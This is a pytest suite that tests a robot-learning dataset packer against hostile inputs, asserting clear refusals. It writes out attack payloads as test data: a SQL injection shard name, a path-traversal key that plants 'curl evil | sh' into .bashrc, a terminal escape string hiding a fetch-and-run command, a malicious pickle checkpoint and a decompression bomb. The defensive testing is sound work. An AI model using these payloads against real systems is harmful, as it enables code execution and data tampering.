"""Hostile and broken datasets (issue 11): each finding of the attack review, run as the
attacker ran it, now gets a clear error naming the file, or correct behaviour.

Sources and packs come from shared buckets and the Hub: every byte of them is untrusted. A
user's own arguments and SQL are trusted. `tests/pack_tamper.py` plays an attacker who can
also recompute every digest the format records ("re-sealed" below)."""

from __future__ import annotations

import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from lerobot_shards import FrameMismatchError, InspectError, PackedDataset, PackError, SourceError, pack_dataset, run_sql, verify
from lerobot_shards.cli import main as cli
from lerobot_shards.core.errors import DecodeError, EpisodeDataError, FormatError, IntegrityError, PinMismatchError
from lerobot_shards.core.format import EPISODES_INDEX_PATH, manifest_sha256, video_column
from lerobot_shards.testing import CameraSpec, SampleSpec, write_sample_dataset
from tests.pack_tamper import edit_episodes_index, edit_manifest, replace_member, reseal
from tests.packed_fixtures import *
from tests.packed_fixtures import (
    CAMERAS,
    assert_same_tree,
    copy_source,
    edit_episodes_metadata,
    episodes_index,
)
from tests.s3_server import s3_bucket, s3_server  # noqa: F401

TOP = CAMERAS[0]
ROOT = Path(__file__).resolve().parents[2]


def _copy(packed: Path, tmp_path: Path, name: str = "pack") -> Path:
    dst = tmp_path / name
    shutil.copytree(packed, dst)
    return dst


def _env() -> dict:
    return {**os.environ, "PYTHONPATH": str(ROOT)}


# -- 1. SQL injection through manifest strings --------------------------------------------------
def test_1_a_shard_name_cannot_become_sql(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    written = tmp_path / "pwned.txt"
    payload = (
        "shard-000000.parquet'], union_by_name=true); "
        f"COPY (SELECT 42) TO '{written}'; CREATE VIEW x AS SELECT * FROM read_parquet(['{dst}/shards/shard-000000.parquet"
    )
    edit_manifest(dst, lambda m: m["shards"][0].update(name=payload))  # re-sealed: digests cannot help
    with pytest.raises(InspectError, match=r"manifest.json: shards\[0\]: shard 0 must be named 'shard-000000'"):
        run_sql(str(dst), "SELECT count(*) FROM episodes")
    assert not written.exists()
    with pytest.raises(FormatError, match="must be named 'shard-000000'"):
        PackedDataset(str(dst))
    assert not verify(str(dst)).ok


def test_1_a_root_path_with_a_quote_works(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path, "it's a pack")
    columns, rows = run_sql(str(dst), "SELECT count(*) AS n FROM frames")
    assert rows == [(141,)]


# -- 2. staging a bucket source must not write outside the staging directory -------------------
def test_2_bucket_keys_and_templates_with_dotdot_are_refused(sample_source, s3_bucket, tmp_path):
    import s3fs

    url, options = s3_bucket
    fs = s3fs.S3FileSystem(**options)
    bucket = url.removeprefix("s3://")
    fs.put(str(sample_source), f"{bucket}/lerobot", recursive=True)
    home = tmp_path / "home"
    target = home / ".bashrc"
    fs.pipe_file(f"{bucket}/lerobot/meta/../../../../../../home/.bashrc", b"curl evil | sh\n")
    keys = fs.find(f"{bucket}/lerobot/meta")
    assert any(".." in key for key in keys), f"the server must keep the hostile key: {keys}"
    with pytest.raises(SourceError, match=r"object key 'meta/\.\./\.\..*' is not a plain relative path"):
        pack_dataset(f"{url}/lerobot", str(tmp_path / "out"), src_storage_options=options, cache_dir=str(home / "cache"))
    assert not target.exists()
    assert not any(p.name == ".bashrc" for p in tmp_path.rglob("*"))


# -- 3. a local source may not read outside its root ---------------------------------------------
@pytest.mark.parametrize(
    "field,template",
    [
        ("data_path", "/etc/{chunk_index}{file_index}.parquet"),
        ("data_path", "../../{chunk_index:03d}/file-{file_index:03d}.parquet"),
        ("video_path", "videos/{video_key}/../../../../outside/{chunk_index}-{file_index}.mp4"),
        ("data_path", "data/{chunk_index.__class__}/file-{file_index}.parquet"),
    ],
)
def test_3_path_templates_that_leave_the_root_are_refused(sample_source, tmp_path, field, template):
    root = copy_source(sample_source, tmp_path)
    info = json.loads((root / "meta" / "info.json").read_text())
    info[field] = template
    (root / "meta" / "info.json").write_text(json.dumps(info))
    with pytest.raises(SourceError, match=r"leaves the dataset root|may only use"):
        pack_dataset(str(root), str(tmp_path / "out"))
    assert not (tmp_path / "out").exists()


def test_3_feature_keys_with_path_characters_are_refused(sample_source, tmp_path):
    root = copy_source(sample_source, tmp_path)
    info = json.loads((root / "meta" / "info.json").read_text())
    info["features"]["observation.images/../../../x"] = info["features"].pop(TOP)
    (root / "meta" / "info.json").write_text(json.dumps(info))
    with pytest.raises(SourceError, match=r"feature key 'observation.images/\.\./\.\./\.\./x' is not allowed"):
        pack_dataset(str(root), str(tmp_path / "out"))


def test_3_symlinks_in_the_source_are_refused_unless_trusted(sample_source, tmp_path):
    root = copy_source(sample_source, tmp_path)
    secret = tmp_path / "credentials"
    secret.write_text('{"aws_secret_access_key": "hunter2"}\n')
    (root / "meta" / "stats.json").unlink()
    (root / "meta" / "stats.json").symlink_to(secret)
    with pytest.raises(SourceError, match=r"meta/stats.json: a symbolic link inside the source"):
        pack_dataset(str(root), str(tmp_path / "out"))
    assert not any("hunter2" in p.read_text(errors="ignore") for p in (tmp_path / "out").rglob("*") if p.is_file())
    # The user's own flag trusts the links (e.g. a Hugging Face cache snapshot).
    pack_dataset(str(root), str(tmp_path / "trusted"), follow_symlinks=True)
    assert "hunter2" in (tmp_path / "trusted" / "meta" / "stats.json").read_text()


# -- 4. limits derived from the format -------------------------------------------------------------
def _encode_h264(width: int, height: int, frames: int) -> bytes:
    import io

    import av
    import numpy as np

    buffer = io.BytesIO()
    with av.open(buffer, "w", format="mp4") as sink:
        stream = sink.add_stream("libx264", rate=30)
        stream.width, stream.height, stream.pix_fmt = width, height, "yuv420p"
        for _ in range(frames):
            frame = av.VideoFrame.from_ndarray(np.zeros((height, width, 3), np.uint8), format="rgb24")
            for packet in stream.encode(frame):
                sink.mux(packet)
        for packet in stream.encode():
            sink.mux(packet)
    return buffer.getvalue()


@pytest.mark.parametrize("decoder", ["torchcodec", "pyav"])
def test_4_a_member_larger_than_the_manifest_says_is_refused_before_decoding(packed_copy, tmp_path, decoder):
    dst = _copy(packed_copy, tmp_path)
    row = next(r for r in episodes_index(dst) if r["episode_index"] == 2)
    frames = row[video_column(TOP, "frames")]
    replace_member(dst, 2, TOP, _encode_h264(512, 512, frames))  # the manifest says 32x48; re-sealed
    dataset = PackedDataset(str(dst), episodes=[2], decoder=decoder, shuffle=False)
    height, width = json.loads((dst / "manifest.json").read_text())["features"][TOP]["shape"][:2]
    with pytest.raises(
        DecodeError,
        match=rf"episode 2 camera {TOP}: the member holds {frames} frames of 512x512; the dataset records {frames} frames of {height}x{width}",
    ):
        next(iter(dataset))
    assert any(f"frames are 512x512, the manifest says {height}x{width}" in p for p in verify(str(dst), decode=True).problems)


def test_4_a_decompression_bomb_row_group_is_refused_before_decoding(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    rows = episodes_index(dst)
    shard = rows[0]["shard"]
    mine = [r for r in rows if r["shard"] == shard]
    parquet = dst / "shards" / f"shard-{shard:06d}.parquet"
    original = pq.read_table(parquet)
    # One row group of 2M rows (zeros compress to almost nothing), the index unchanged and re-sealed.
    bomb = pa.table(
        {
            name: pa.nulls(2_000_000, original.schema.field(name).type).fill_null(0)
            if pa.types.is_integer(original.schema.field(name).type) or pa.types.is_floating(original.schema.field(name).type)
            else pa.repeat(original[name][0], 2_000_000)
            for name in original.column_names
        },
        schema=original.schema,
    )
    pq.write_table(bomb, parquet, compression="zstd", row_group_size=2_000_000)
    assert parquet.stat().st_size < 2_000_000
    edit_episodes_index(dst, lambda index: [r.update(row_group=0) for r in index if r["shard"] == shard])
    dataset = PackedDataset(str(dst), episodes=[r["episode_index"] for r in mine], shuffle=False)
    with pytest.raises(FormatError, match=r"row group 0 holds 2000000 rows, its episodes in the index \d+"):
        next(iter(dataset))


def test_4_an_index_with_more_rows_than_the_manifest_fails_before_reading_them(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    table = pq.read_table(dst / EPISODES_INDEX_PATH)
    pq.write_table(pa.concat_tables([table] * 100_000).combine_chunks(), dst / EPISODES_INDEX_PATH)
    reseal(dst)  # the manifest still says 9 episodes
    code = (
        "import resource, sys\nfrom lerobot_shards import PackedDataset\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        f"try:\n    PackedDataset({str(dst)!r})\nexcept Exception as err:\n    print(type(err).__name__, err)\n"
        "print('grew_kb', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=_env(), timeout=300).stdout
    assert "FormatError" in out and "index/episodes.parquet: 900000 rows, the manifest records 9 episodes" in out, out
    grew_kb = int(out.rsplit("grew_kb", 1)[1])
    assert grew_kb < 200_000, f"refusing the index must not materialize its 900,000 rows ({grew_kb} KB)"


# -- 5. resuming into a destination of another dataset ---------------------------------------------
def test_5_a_resume_never_mixes_two_sources(tmp_path):
    spec = SampleSpec(episodes=6, lengths=(5, 6, 7, 5, 6, 7), cameras=(CameraSpec(TOP, 32, 48),))
    write_sample_dataset(tmp_path / "v1" / "ds", spec)
    write_sample_dataset(tmp_path / "v2" / "ds", SampleSpec(**{**spec.__dict__, "seed": spec.seed + 1}))
    dst = tmp_path / "out"
    pack_dataset(str(tmp_path / "v1" / "ds"), str(dst), shard_size_mb=0.001, part=(0, 2))  # interrupted: half packed
    with pytest.raises(PackError, match=r"holds \d+ packed shard\(s\) of another plan \(source fingerprint: sha256:"):
        pack_dataset(str(tmp_path / "v2" / "ds"), str(dst), shard_size_mb=0.001)
    # The same source (another copy of it) resumes.
    shutil.copytree(tmp_path / "v1" / "ds", tmp_path / "v1-copy" / "ds")
    report = pack_dataset(str(tmp_path / "v1-copy" / "ds"), str(dst), shard_size_mb=0.001)
    assert report.shards_skipped > 0 and verify(str(dst)).ok


# -- 6. damage the reader itself must catch (beyond the fuzz test) ---------------------------------
def test_6_fewer_frames_in_the_index_than_in_the_member(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    column = video_column(CAMERAS[1], "frames")
    frames = next(r for r in episodes_index(dst) if r["episode_index"] == 8)[column]
    edit_episodes_index(dst, lambda rows: [r.update({column: frames - 2}) for r in rows if r["episode_index"] == 8])
    # Refused from the member's sample table, before a decoder opens it.
    with pytest.raises(
        EpisodeDataError,
        match=rf"episode 8 camera {CAMERAS[1]}: mp4 box stsz: claims {frames} samples; the dataset records {frames - 2} frames",
    ):
        list(PackedDataset(str(dst), episodes=[8], shuffle=False))


def test_6_a_changed_fps_disagrees_with_the_packed_metadata(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    text = (dst / "manifest.json").read_text()
    (dst / "manifest.json").write_text(text.replace('"fps": 30', '"fps": 15'))
    with pytest.raises(IntegrityError, match="content does not match its content_sha256"):
        PackedDataset(str(dst))
    edit_manifest(dst, lambda m: m.update(fps=15))  # re-sealed
    with pytest.raises(FormatError, match=r"meta/info.json: fps 30 disagrees with the manifest's 15"):
        PackedDataset(str(dst))


def test_6_a_pinned_manifest_refuses_any_other(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    pin = manifest_sha256((dst / "manifest.json").read_bytes())
    assert len(PackedDataset(str(dst), manifest_sha256=pin)) == 141
    edit_manifest(dst, lambda m: m["extra"].update(note="re-sealed by someone else"))
    with pytest.raises(PinMismatchError, match="is not the pinned manifest"):
        PackedDataset(str(dst), manifest_sha256=pin)
    assert not verify(str(dst), manifest_sha256=pin).ok
    result = CliRunner().invoke(cli, ["info", str(packed_copy)])
    assert pin in "".join(c for c in result.output if c not in " \n│")


# -- 8. file modes ---------------------------------------------------------------------------------
def test_8_packed_files_are_readable_by_others_under_umask_022(sample_source, tmp_path):
    code = (
        "import os; os.umask(0o022)\nfrom lerobot_shards import pack_dataset\n"
        f"pack_dataset({str(sample_source)!r}, {str(tmp_path / 'out')!r}, shard_size_mb=0.03)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, env=_env(), timeout=300)
    files = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert {"manifest.json", "pack-plan.json", "episodes.parquet", "info.json", "shard-000000.json"} <= {p.name for p in files}
    modes = {p.relative_to(tmp_path).as_posix(): oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    assert set(modes.values()) == {"0o644"}, modes


# -- 9 and 10. killed packs: no orphans, no temp files left forever ---------------------------------
def _children(pid: int) -> set[int]:
    found = set()
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            found |= {int(c) for c in (task / "children").read_text().split()}
        except OSError:
            continue
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def test_9_workers_die_with_a_killed_pack(tmp_path):
    write_sample_dataset(
        tmp_path / "src", SampleSpec(episodes=8, min_length=60, max_length=80, cameras=(CameraSpec(TOP, 64, 96),))
    )
    command = [
        sys.executable,
        "-m",
        "lerobot_shards.cli",
        "pack",
        str(tmp_path / "src"),
        str(tmp_path / "out"),
        "--video",
        "hevc",
        "--workers",
        "2",
        "--shard-size-mb",
        "0.001",
    ]
    # A killed pack's staging stays until its re-run sweeps it (tests/cli/test_next_user.py):
    # this one is never re-run, so it stages in the test's own folder.
    (tmp_path / "tmp").mkdir()
    env = {**_env(), "TMPDIR": str(tmp_path / "tmp")}
    pack = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    workers: set[int] = set()
    deadline = time.monotonic() + 120
    while len(workers) < 2 and time.monotonic() < deadline and pack.poll() is None:
        workers = {c for c in _children(pack.pid) if "python" in Path(f"/proc/{c}/cmdline").read_bytes().decode(errors="ignore")}
        time.sleep(0.05)
    assert len(workers) >= 2, "the pack should have started its pool"
    pack.send_signal(signal.SIGKILL)
    pack.wait(timeout=30)
    deadline = time.monotonic() + 60  # hang guard; they die at once
    while any(_alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    survivors = [w for w in workers if _alive(w)]
    for worker in survivors:
        os.kill(worker, signal.SIGKILL)
    assert not survivors, "pool workers outlived the killed pack"


def test_10_stale_temp_files_are_removed_by_the_next_run(sample_source, tmp_path):
    dst = tmp_path / "out"
    pack_dataset(str(sample_source), str(dst), shard_size_mb=0.03, part=(0, 2))
    stale = [dst / "shards" / ".shard-000001.tar.tmp-abc", dst / "meta" / ".info.json.tmp-xyz"]
    fresh = dst / "shards" / ".shard-000002.tar.tmp-live"  # another --part job writing right now
    for path in [*stale, fresh]:
        path.write_bytes(b"half a file")
    old = time.time() - 3600
    for path in stale:
        os.utime(path, (old, old))
    pack_dataset(str(sample_source), str(dst), shard_size_mb=0.03, part=(1, 2))
    assert not any(p.exists() for p in stale) and fresh.exists()


def test_10_a_full_disk_says_what_to_do(sample_source, tmp_path, monkeypatch):
    """Which disk is full is named (issue 56 row 12: a full destination was blamed on /tmp)."""
    mount = tmp_path / "small"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True).returncode != 0:
        pytest.skip("cannot mount a small tmpfs here (needs root with CAP_SYS_ADMIN)")
    try:
        result = CliRunner().invoke(cli, ["pack", str(sample_source), str(mount / "out"), "--shard-size-mb", "0.03"])
        assert result.exit_code == 1, result.output
        assert f"no space left on the destination, writing {mount / 'out'}" in result.output, result.output
        assert "re-run the same command" in result.output and "Traceback" not in result.output
        assert not list(mount.rglob("*.tmp-*")), "a failed write leaves no temp file"
        subprocess.run(["umount", str(mount)], check=True)
        # The staging folder full, the destination not: the temp folder is named, and TMPDIR.
        assert subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)]).returncode == 0
        monkeypatch.setattr(tempfile, "tempdir", str(mount))
        result = CliRunner().invoke(cli, ["pack", str(sample_source), str(tmp_path / "roomy"), "--shard-size-mb", "0.03"])
        assert result.exit_code == 1, result.output
        assert f"no space left in the temp folder shards are staged in ({mount}" in result.output, result.output
        assert "set TMPDIR to move it" in result.output
    finally:
        subprocess.run(["umount", str(mount)], check=False)


# -- 11. terminal escapes in dataset strings --------------------------------------------------------
def test_11_dataset_strings_cannot_drive_the_terminal(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    hostile = "ds\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07[bold red]x[/]"
    edit_manifest(dst, lambda m: m["source"].update(uri=hostile))
    info = CliRunner().invoke(cli, ["info", str(dst)])
    assert info.exit_code == 0 and "\x1b" not in info.output and "\x07" not in info.output
    assert "\\x1b]0;pwned" in info.output and "[bold red]" in info.output  # shown, not interpreted
    tasks = dst / "meta" / "tasks.parquet"
    table = pq.read_table(tasks)
    pq.write_table(table.set_column(table.schema.get_field_index("task"), "task", pa.array([hostile] * table.num_rows)), tasks)
    reseal(dst)
    for fmt in ("table", "csv"):
        out = CliRunner().invoke(cli, ["sql", str(dst), "SELECT task FROM read_parquet('" + str(tasks) + "')", "--format", fmt])
        assert out.exit_code == 0 and "\x1b" not in out.output and "\\x1b" in out.output, fmt


# -- 13. checkpoints are data ------------------------------------------------------------------------
def test_13_a_planted_checkpoint_does_not_run_code(packed_copy, tmp_path):
    import torch

    marker = tmp_path / "ran"

    class Payload:
        def __reduce__(self):
            return (Path.touch, (marker,))

    torch.save({"model": Payload()}, tmp_path / "ckpt.pt")
    result = subprocess.run(
        [
            sys.executable,
            str(ROOT / "scripts" / "train.py"),
            "--data",
            str(packed_copy),
            "--ckpt",
            str(tmp_path / "ckpt.pt"),
            "--steps",
            "1",
            "--num-workers",
            "0",
        ],
        capture_output=True,
        text=True,
        env=_env(),
        timeout=300,
    )
    assert result.returncode != 0 and "Weights only load failed" in result.stderr
    assert not marker.exists()


# -- 14. bad input gets a clear error naming the file -------------------------------------------------
def test_14_a_task_missing_at_read_time_names_the_episode(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    tasks = dst / "meta" / "tasks.parquet"
    pq.write_table(pq.read_table(tasks).slice(0, 1), tasks)
    reseal(dst)
    missing = sorted({r["episode_index"] for r in episodes_index(dst)} - {0})
    with pytest.raises(FormatError, match=r"episode \d+: task_index 1 is not in meta/tasks.parquet"):
        list(PackedDataset(str(dst), episodes=missing, shuffle=False))


def test_14_a_corrupt_tasks_parquet_names_the_file(sample_source, tmp_path):
    root = copy_source(sample_source, tmp_path)
    (root / "meta" / "tasks.parquet").write_bytes(b"PAR1 not really")
    with pytest.raises(SourceError, match=r"meta/tasks.parquet: cannot read tasks"):
        pack_dataset(str(root), str(tmp_path / "out"))


def test_14_a_deeply_nested_manifest_is_a_format_error(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    (dst / "manifest.json").write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(FormatError, match="manifest.json: nested too deeply"):
        PackedDataset(str(dst))
    (dst / "manifest.json").write_text(
        json.dumps(
            {
                "format": "lerobot-shards",
                "format_version": 2,
                "x": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]],
            }
        )
    )
    with pytest.raises(FormatError, match=r"nested \d+ levels deep; at most 32"):
        PackedDataset(str(dst))
    assert not verify(str(dst)).ok


def test_14_a_destination_that_is_a_file(sample_source, tmp_path):
    (tmp_path / "out").write_text("not a directory")
    result = CliRunner().invoke(cli, ["pack", str(sample_source), str(tmp_path / "out")])
    assert result.exit_code == 1 and "the destination exists and is not a directory" in result.output


def test_14_verify_with_a_deleted_shard_reports_it(packed_copy, tmp_path):
    dst = _copy(packed_copy, tmp_path)
    (dst / "shards" / "shard-000002.tar").unlink()
    result = CliRunner().invoke(cli, ["verify", str(dst)])
    assert result.exit_code == 1 and "shards/shard-000002.tar: missing" in result.output
    assert "Traceback" not in result.output


def test_14_a_root_that_does_not_exist_says_so(tmp_path):
    with pytest.raises(FormatError, match=r"no such directory"):
        PackedDataset(str(tmp_path / "nowhere"))


# -- 15. zero-length episodes follow the mismatch policy ---------------------------------------------
def _with_empty_episode(sample_source, tmp_path) -> Path:
    root = copy_source(sample_source, tmp_path)

    def empty(row):  # episode 0 loses its rows: its length, its global index range, its video window
        if row["episode_index"] == 0:
            row["length"], row["dataset_to_index"] = 0, row["dataset_from_index"]
            for key in CAMERAS:
                row[f"videos/{key}/to_timestamp"] = row[f"videos/{key}/from_timestamp"]

    edit_episodes_metadata(root, empty)
    for path in sorted((root / "data").glob("*/*.parquet")):
        table = pq.read_table(path)
        pq.write_table(table.filter(pa.compute.not_equal(table["episode_index"], 0)), path)
    return root


def test_15_a_zero_length_episode_is_dropped_or_named(sample_source, tmp_path):
    root = _with_empty_episode(sample_source, tmp_path)
    with pytest.raises(
        FrameMismatchError,
        match=r"episode 0 has no rows .*--on-frame-mismatch drop-episode \(on_frame_mismatch='drop-episode'\) leaves it out",
    ):
        pack_dataset(str(root), str(tmp_path / "strict"))
    for policy in ("drop-episode", "pad"):
        report = pack_dataset(str(root), str(tmp_path / policy), on_frame_mismatch=policy)
        assert report.dropped_episodes == [0] and report.episodes == 8
        assert verify(str(tmp_path / policy)).ok


# -- 16. a destination inside the source --------------------------------------------------------------
def test_16_a_destination_inside_the_source_is_refused(sample_source, tmp_path):
    root = copy_source(sample_source, tmp_path)
    with pytest.raises(PackError, match="the destination is inside the source"):
        pack_dataset(str(root), str(root / "meta" / "packed"))
    assert not (root / "meta" / "packed").exists()


# -- 19. open files per consumer -----------------------------------------------------------------------
def test_19_open_files_stay_bounded_with_many_shards(tmp_path):
    write_sample_dataset(
        tmp_path / "src", SampleSpec(episodes=120, min_length=2, max_length=3, cameras=(CameraSpec(TOP, 32, 32),))
    )
    pack_dataset(str(tmp_path / "src"), str(tmp_path / "out"), shard_size_mb=0.0001)
    code = (
        "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))\n"
        "from lerobot_shards import PackedDataset\n"
        f"ds = PackedDataset({str(tmp_path / 'out')!r}, return_uint8=True)\n"
        "print(len(ds.index.manifest.shards), sum(1 for _ in ds))\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=_env(), timeout=300)
    assert result.returncode == 0, result.stderr[-2000:]
    shards, samples = map(int, result.stdout.split())
    assert shards == 120 and samples > 227


# -- 17. hevc packs are byte-reproducible ------------------------------------------------------------
def test_17_hevc_packs_are_byte_identical_clean_and_resumed(tmp_path):
    # A 64-pixel-wide camera is one x265 CTU wide at the default CTU size: x265 then read
    # uninitialized memory and two packs differed in most files (issue 11, finding 17).
    spec = SampleSpec(
        episodes=8,
        min_length=10,
        max_length=20,
        seed=1,
        cameras=(CameraSpec(TOP, 96, 128), CameraSpec("observation.images.wrist", 64, 64)),
    )
    write_sample_dataset(tmp_path / "src", spec)
    for name in ("a", "b"):
        pack_dataset(str(tmp_path / "src"), str(tmp_path / name), video="hevc", shard_size_mb=0.02)
    pack_dataset(str(tmp_path / "src"), str(tmp_path / "resumed"), video="hevc", shard_size_mb=0.02, part=(1, 3))
    pack_dataset(str(tmp_path / "src"), str(tmp_path / "resumed"), video="hevc", shard_size_mb=0.02)
    assert len(list((tmp_path / "a" / "shards").glob("*.tar"))) >= 3
    assert_same_tree(tmp_path / "a", tmp_path / "b")
    assert_same_tree(tmp_path / "a", tmp_path / "resumed")


def test_17_hevc_refuses_frames_too_narrow_to_encode_reproducibly(tmp_path):
    write_sample_dataset(
        tmp_path / "src", SampleSpec(episodes=1, lengths=(3,), cameras=(CameraSpec("observation.images.top", 32, 32),))
    )
    with pytest.raises(PackError, match="hevc cannot encode 16-pixel-wide frames reproducibly"):
        pack_dataset(str(tmp_path / "src"), str(tmp_path / "out"), video="hevc", resize=(16, 16))


# -- issue 41, finding 4: meta/ files are the ones LeRobot reads, bounded, streamed -----------------
def test_meta_files_are_the_known_ones_bounded_and_streamed(sample_source, tmp_path):
    """A sparse 1.5 GiB ``meta/notes.bin`` (free to its publisher) was read whole and copied into
    the pack (1.7 GiB peak, exit 0). Only the files LeRobot reads are copied now, streamed and
    each within its bound; any other is left out, and said so; a sparse known file is refused by
    name. Peaks measured in a child process."""
    from tests.memory_probe import HOSTILE_PEAK_BYTES, run_measured

    root = copy_source(sample_source, tmp_path)
    with open(root / "meta" / "notes.bin", "wb") as handle:
        handle.truncate(3 << 29)  # 1.5 GiB of holes
    code = """
from lerobot_shards import pack_dataset
report = pack_dataset(sys.argv[1], sys.argv[2])
print("LEFT", report.metadata_left_out)
"""
    measured = run_measured(code, str(root), str(tmp_path / "out"))
    assert measured.outcome == "ok" and "LEFT ['meta/notes.bin']" in measured.stdout, measured.outcome
    assert measured.peak_bytes < HOSTILE_PEAK_BYTES
    assert not (tmp_path / "out" / "meta" / "notes.bin").exists() and (tmp_path / "out" / "meta" / "info.json").is_file()
    assert "left out of the pack, files under meta/ that LeRobot does not read: meta/notes.bin" in measured.stderr

    (root / "meta" / "notes.bin").unlink()
    with open(root / "meta" / "tasks.parquet", "r+b") as handle:
        handle.truncate(3 << 29)  # a known file, made sparse beyond its bytes
    measured = run_measured(code, str(root), str(tmp_path / "out2"))
    assert measured.outcome.startswith("SourceError: ") and "tasks.parquet: a sparse file" in measured.outcome, measured.outcome
    assert measured.peak_bytes < HOSTILE_PEAK_BYTES
    assert not (tmp_path / "out2").exists()
